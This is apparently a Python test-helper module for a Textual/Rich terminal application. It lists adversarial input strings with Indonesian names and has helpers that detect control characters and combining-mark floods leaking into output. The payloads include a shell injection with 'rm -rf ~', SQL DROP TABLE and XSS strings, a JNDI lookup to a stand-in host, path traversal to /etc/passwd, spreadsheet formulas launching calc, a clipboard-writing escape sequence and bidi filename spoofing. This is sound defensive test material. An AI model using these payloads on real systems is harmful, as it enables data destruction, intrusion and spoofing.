"""Words that attack: texts that a terminal, a markup, a spreadsheet, a shell or a file system could obey."""

from __future__ import annotations

import re
import unicodedata

ATTACKS: dict[str, str] = {
    # markup of Textual and Rich
    "tutup": "[/]",
    "tutup-b": "[/b]",
    "tutup-banyak": "[/][/][/]",
    "buka": "[b]",
    "buka-sendiri": "[b",
    "kurung-dua": "[[",
    "kurung-tutup": "]]",
    "kurung-dalam": "[[[[/]]]]",
    "klik": "[@click=app.bell]klik[/]",
    "klik-keluar": "[@click=app.exit]",
    "klik-dialog": "[@click=screen.dismiss('ya')]x[/]",
    "tautan": "[link=http://jahat.example]x[/link]",
    "warna": "[red on blue]",
    "warna-tema": "[$primary]",
    "warna-nomor": "[on #ff0000]",
    "kedip": "[blink]",
    "silang": "[bold][/italic]",
    "nilai": "[type=x, v={'a[0]'}]",
    "nilai-buka": "[b +",
    "garis-miring": "\\[b]",
    "emoji-kode": ":smile:",
    "kurung-kosong": "[]",
    "kurung-seribu": "[" * 1000,
    # patterns of programs
    "format": "{nama} {0} {nama.__class__}",
    "persen": "%s %n %(nama)s",
    "cangkang": "$(reboot) `id` $HOME; rm -rf ~",
    "sql": "'; DROP TABLE pegawai; --",
    "html": "<script>alert(1)</script>",
    "jndi": "${jndi:ldap://jahat.example/x}",
    "naik": "../../../../etc/passwd",
    "perangkat": "CON",
    "jalur": 'a/b\\c:d*e?f"g<h>i|j',
    "toml": '"""',
    "toml-tunggal": "'''",
    "toml-lolos": "\\u0000 \\x1b \\",
    "toml-tabel": '"\n[pegawai]\nnip = "1',
    "komentar": "# nip = 1",
    "json": '","nip":"1',
    # spreadsheet formulas
    "rumus": "=1+1",
    "rumus-cmd": "=cmd|'/C calc'!A0",
    "rumus-tambah": "+1+cmd|' /C calc'!A0",
    "rumus-kurang": "-2+3",
    "rumus-et": "@SUM(1+1)",
    "rumus-tab": "\t=1+1",
    "rumus-lebar": "\uff1d1+1",
    # escape sequences
    "esc": "\x1b",
    "csi-warna": "\x1b[31m",
    "csi-sembunyi": "\x1b[8m",
    "csi-hapus": "\x1b[2J\x1b[H",
    "csi-pindah": "\x1b[999;999H",
    "csi-layar": "\x1b[?1049l",
    "csi-tempel": "\x1b[?2004l",
    "csi-tempel-mulai": "\x1b[200~",
    "csi-tempel-akhir": "\x1b[201~",
    "csi-tanya": "\x1b[6n\x1b[c\x1b[20t",
    "csi-ulang": "\x1b[99999999b",
    "csi-kitty": "\x1b[>31u",
    "csi-putus": "\x1b[",
    "ris": "\x1bc",
    "aksara": "\x1b(0qqq",
    "ukuran": "\x1b#8",
    "osc-judul": "\x1b]0;jahat\x07",
    "osc-tautan": "\x1b]8;;http://jahat.example\x1b\\klik\x1b]8;;\x1b\\",
    "osc-papan": "\x1b]52;c;cm0gLXJm\x07",
    "osc-papan-st": "\x1b]52;c;cm0gLXJm\x1b\\",
    "osc-palet": "\x1b]4;1;rgb:ff/00/00\x07",
    "osc-berkas": "\x1b]1337;File=name=eA==:AAAA\x07",
    "osc-putus": "\x1b]0;",
    "dcs": "\x1bP+q544e\x1b\\",
    "apc": "\x1b_Ga=T,f=24;AAAA\x1b\\",
    "pm": "\x1b^x\x1b\\",
    "sos": "\x1bXx\x1b\\",
    # C1 and C0
    "c1-csi": "\x9b31m",
    "c1-osc": "\x9d52;c;cm0=\x9c",
    "c1-dcs": "\x90+q544e\x9c",
    "c1-nel": "\x85palsu",
    "c1-semua": "".join(map(chr, range(0x80, 0xA0))),
    "c0-semua": "".join(map(chr, range(1, 32))),
    "nul": "\x00",
    "bel": "\x07\x07\x07",
    "mundur": "\x08\x08\x08\x08palsu",
    "del": "\x7f\x7f",
    "enq": "\x05",
    "geser": "\x0e\x0f",
    "kembali": "\rpalsu",
    "baris": "\nGalat palsu",
    "baris-tajuk": "\r\nSet-Cookie: a=b",
    "tab": "\t\t",
    "pemisah": "\u2028a\u2029b\x0bc\x0cd",
    # bidi, invisible, unpaired
    "rtlo": "\u202etxt.exe",
    "lro": "\u202d123",
    "pulau": "\u2066a\u2067b\u2068c\u2069",
    "tanda-arah": "\u200e\u200f\u061c",
    "lebar-nol": "\u200b\u200c\u200d\u2060",
    "bom": "\ufeff",
    "tanda-hubung-lunak": "a\u00adb",
    "isian-hangul": "\u3164\u115f\uffa0",
    "label": "\U000e0041\U000e0042\U000e007f",
    "pemilih": "\ufe0f\ufe0e",
    "anotasi": "\ufff9a\ufffab\ufffb",
    "surogat": "\ud83d",
    "surogat-terbalik": "\ude00\ud83d",
    "surogat-byte": "\udcff\udc80",
    "bukan-huruf": "\uffff\ufffe\U0010ffff",
    "pribadi": "\ue000\uf8ff",
    # floods and lengths
    "banjir": "e" + "\u0301\u0323" * 300,
    "banjir-coret": "x" + "\u0336" * 500,
    "banjir-keliling": "o" + "\u20dd" * 60,
    "banjir-murni": "\u0489" * 400,
    "panjang": "kata " * 4000,
    "panjang-utuh": "W" * 50_000,
    "panjang-lebar": "漢" * 9000,
    "spasi": " " * 6000,
    "baris-banyak": "a\n" * 3000,
    # scripts that are honest and hard
    "ibrani": "שלום עולם",
    "arab": "مرحبا بالعالم",
    "jawa": "ꦲꦏ꧀ꦱꦫ",
    "thai": "กำลังใจ",
    "cina": "漢字かな한글",
    "lebar-penuh": "ＦＵＬＬ　",
    "keluarga": "👩\u200d👩\u200d👧\u200d👦",
    "bendera": "🇮🇩",
    "warna-kulit": "👍🏽",
    "hati": "❤\ufe0f",
    "spasi-aneh": "\xa0\u2003\u202f\u3000",
}
"""By name; the honest letters around them are put there by `attack`."""

_HONEST = re.compile(r"(Kata\d+)z")
_FORBIDDEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2028\u2029\u2060-\u206f\ufeff\ud800-\udfff]")


def attack(name: str, number: int = 0) -> str:
    """The attack with honest letters before and behind it; `number` makes them the place's own."""
    return f"Kata{number}z{ATTACKS[name]}Akhir"


def honest(text: str) -> set[str]:
    """The honest words that can be read in a text."""
    return set(_HONEST.findall(text))


def forbidden(text: str) -> list[str]:
    """What must not reach a terminal or a line of a log, as code points; a line break may."""
    return sorted({f"U+{ord(found):04X}" for found in _FORBIDDEN.findall(text)})


def raw(content: bytes) -> list[str]:
    """The attacks with a control character that stand in a stream as they are, right behind an honest word."""
    found = []
    for name, payload in ATTACKS.items():
        raw = payload.encode("utf-8", "replace")
        if forbidden(payload) and len(raw) > 2 and re.search(rb"Kata\d+z" + re.escape(raw[:40]), content):
            found.append(name)
    return found


def flood(text: str) -> int:
    """The most marks in a row over one letter."""
    most = count = 0
    for letter in text:
        count = count + 1 if unicodedata.category(letter) in ("Mn", "Me") else 0
        most = max(most, count)
    return most
